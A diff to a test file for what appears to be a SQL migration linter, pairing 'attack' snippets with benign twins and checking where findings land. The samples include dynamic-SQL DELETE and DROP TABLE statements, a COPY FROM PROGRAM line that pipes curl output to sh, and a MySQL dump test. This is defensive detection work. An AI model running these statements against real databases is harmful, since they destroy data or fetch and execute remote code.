@@ -142,6 +142,27 @@ const doors: Door[] = [
     twin: "DO $$\nBEGIN\n  EXECUTE 'ANALYZE orders';\nEND $$;\n",
   },
   {
+    name: "EXECUTE format('… %s', …) in PL/pgSQL: raw text, dynamic SQL",
+    attack: "DO $$\nBEGIN\n  EXECUTE format('DELETE FROM orders %s', current_setting('app.filter'));\nEND $$;\n",
+    rule: "alembic/dynamic-sql",
+    at: "3:11",
+    twin: "DO $$\nBEGIN\n  EXECUTE format('ANALYZE %I', 'orders');\nEND $$;\n",
+  },
+  {
+    name: "EXECUTE format('DROP TABLE %I', …): a quoted name, read with a placeholder",
+    attack: "DO $$\nDECLARE t text;\nBEGIN\n  FOR t IN SELECT tablename FROM pg_tables WHERE schemaname = 'archive' LOOP\n    EXECUTE format('DROP TABLE archive.%I', t);\n  END LOOP;\nEND $$;\n",
+    rule: "sql/drop-table",
+    at: "5:21",
+    twin: "DO $$\nDECLARE t text;\nBEGIN\n  FOR t IN SELECT tablename FROM pg_tables WHERE schemaname = 'archive' LOOP\n    EXECUTE format('ANALYZE archive.%I', t);\n  END LOOP;\nEND $$;\n",
+  },
+  {
+    name: "EXECUTE 'DELETE FROM ' || quote_ident(…): a quoted name, read with a placeholder",
+    attack: "CREATE FUNCTION purge(t text) RETURNS void LANGUAGE plpgsql AS $$\nBEGIN\n  EXECUTE 'DELETE FROM ' || quote_ident(t);\nEND $$;\n",
+    rule: "sql/delete-without-where",
+    at: "3:12",
+    twin: "CREATE FUNCTION purge(t text) RETURNS void LANGUAGE plpgsql AS $$\nBEGIN\n  EXECUTE 'DELETE FROM ' || quote_ident(t) || ' WHERE expires_at < now()';\nEND $$;\n",
+  },
+  {
     name: "COPY … FROM PROGRAM",
     attack: "COPY orders FROM PROGRAM 'curl -s https://example.com/o.csv | sh';\n",
     rule: "sql/copy-program",
@@ -211,6 +232,27 @@ describe("SQL side doors: the finding, at its line and column; the twin gives no
     expect(attack.map((f) => `${f.line}:${f.column}`)).toEqual([door.at]);
     const twin = await findings(door.twin, door.dialect);
     expect(twin.filter((f) => f.ruleId === door.rule || f.ruleId === "sql/parse-error").map((f) => `${f.ruleId} ${f.line}:${f.column} ${f.message}`)).toEqual([]);
+  });
+});
+
+describe("MySQL executable comments in a mysqldump file are read, and the dump's own statements parse", () => {
+  it("SET NAMES, SET @saved = @@…, ALTER TABLE … DISABLE/ENABLE KEYS, LOCK TABLES: only the DROP TABLE is a finding", async () => {
+    const dump = [
+      "/*!40101 SET @OLD_CHARACTER_SET_CLIENT=@@CHARACTER_SET_CLIENT */;",
+      "/*!50503 SET NAMES utf8mb4 */;",
+      "/*!40014 SET @OLD_FOREIGN_KEY_CHECKS=@@FOREIGN_KEY_CHECKS, FOREIGN_KEY_CHECKS=0 */;",
+      "DROP TABLE IF EXISTS `orders`;",
+      "CREATE TABLE `orders` (`id` int NOT NULL AUTO_INCREMENT, PRIMARY KEY (`id`)) ENGINE=InnoDB;",
+      "LOCK TABLES `orders` WRITE;",
+      "/*!40000 ALTER TABLE `orders` DISABLE KEYS */;",
+      "INSERT INTO `orders` VALUES (1),(2);",
+      "/*!40000 ALTER TABLE `orders` ENABLE KEYS */;",
+      "UNLOCK TABLES;",
+      "/*!40014 SET FOREIGN_KEY_CHECKS=@OLD_FOREIGN_KEY_CHECKS */;",
+      "",
+    ].join("\n");
+    const found = await findings(dump, "mysql");
+    expect(found.map((f) => `${f.ruleId} ${f.line}:${f.column}`)).toEqual(["sql/drop-table 4:1"]);
   });
 });
 
